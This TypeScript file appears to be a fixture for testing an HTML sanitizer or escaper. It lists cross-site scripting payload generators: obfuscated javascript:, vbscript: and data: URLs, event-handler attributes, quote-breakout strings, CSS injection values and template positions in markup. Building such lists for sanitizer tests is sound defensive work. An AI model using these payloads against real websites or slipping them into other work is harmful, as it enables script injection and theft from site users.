/** Values that would run `code` if they were written where they say. */
type Payload = (code: string) => string;

/** Addresses, for attributes and styles that take one. */
export const addresses: readonly Payload[] = [
  (code) => `javascript:${code}`,
  (code) => `JAVASCRIPT:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript\r:${code}`,
  (code) => `javascript://x%0a${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `data:text/javascript,${code}`,
  (code) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${code}"/>`,
  (code) => `x" onerror="${code}`,
  (code) => `x' onerror='${code}`,
];

/** Attributes that run, load or submit; each with what a value must look like to do it. */
export const attributes: readonly (readonly [element: string, name: string, value: Payload])[] = [
  ['p', 'onclick', (code) => code],
  ['p', 'ONMOUSEOVER', (code) => code],
  ['p', 'onpointerover', (code) => code],
  ['p', 'onfocus', (code) => code],
  ['p', 'style', (code) => `background:url(javascript:${code})`],
  ['img', 'onerror', (code) => code],
  ['img', 'onload', (code) => code],
  ['a', 'onclick', (code) => code],
  ['a', 'ping', (code) => `javascript:${code}`],
  ['form', 'action', (code) => `javascript:${code}`],
  ['form', 'onsubmit', (code) => code],
  ['button', 'formaction', (code) => `javascript:${code}`],
  ['button', 'type', () => 'submit'],
  ['iframe', 'srcdoc', (code) => `<script>parent.${code}</script>`],
  ['iframe', 'src', (code) => `javascript:parent.${code}`],
  ['iframe', 'onload', (code) => code],
  ['object', 'data', (code) => `javascript:${code}`],
  ['embed', 'src', (code) => `javascript:${code}`],
  ['script', 'src', (code) => `data:text/javascript,${code}`],
  ['link', 'href', (code) => `data:text/css,@import 'javascript:${code}'`],
  ['meta', 'content', (code) => `0;url=javascript:${code}`],
  ['base', 'href', (code) => `javascript:${code}`],
  ['svg', 'onload', (code) => code],
  ['svg a', 'href', (code) => `javascript:${code}`],
  ['svg a', 'xlink:href', (code) => `javascript:${code}`],
  ['svg animate', 'values', (code) => `javascript:${code}`],
  ['svg use', 'href', (code) => `data:image/svg+xml,<svg id="x" onload="${code}"/>#x`],
  ['math', 'href', (code) => `javascript:${code}`],
];

/** Declarations, as property and value. */
export const declarations: readonly (readonly [property: string, value: Payload])[] = [
  ['background', (code) => `url(javascript:${code})`],
  [
    'background-image',
    (code) => `url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${code}'/>")`,
  ],
  ['list-style', (code) => `url('javascript:${code}')`],
  ['cursor', (code) => `u\\72l(javascript:${code}), auto`],
  ['content', (code) => `url(javascript:${code})`],
  ['width', (code) => `expression(${code})`],
  ['behavior', (code) => `url(javascript:${code})`],
  ['-moz-binding', (code) => `url(javascript:${code})`],
  ['color', (code) => `red;background:url(javascript:${code})`],
  ['color:red;background', (code) => `url(javascript:${code})`],
  ['--x', (code) => `url(javascript:${code})`],
  ['background', (code) => `image-set("javascript:${code}" 1x)`],
  ['cssText', (code) => `background:url(javascript:${code})`],
];

/** Where a template may stand in markup. */
export const templatePlaces: readonly string[] = [
  '<p>{{ value }}</p>',
  '<p title="{{ value }}">x</p>',
  "<p title='{{ value }}'>x</p>",
  '<p title={{ value }}>x</p>',
  '<a href="{{ value }}">x</a>',
  '<a href={{ value }}>x</a>',
  '<img src="{{ value }}">',
  '<p style="background:{{ value }}">x</p>',
  '<p {{ value }}>x</p>',
  '<p onclick="{{ value }}">x</p>',
  '<{{ value }}>x</{{ value }}>',
  '<!-- {{ value }} -->',
  '<textarea>{{ value }}</textarea>',
  '<svg><a href="{{ value }}"><text>x</text></a></svg>',
];
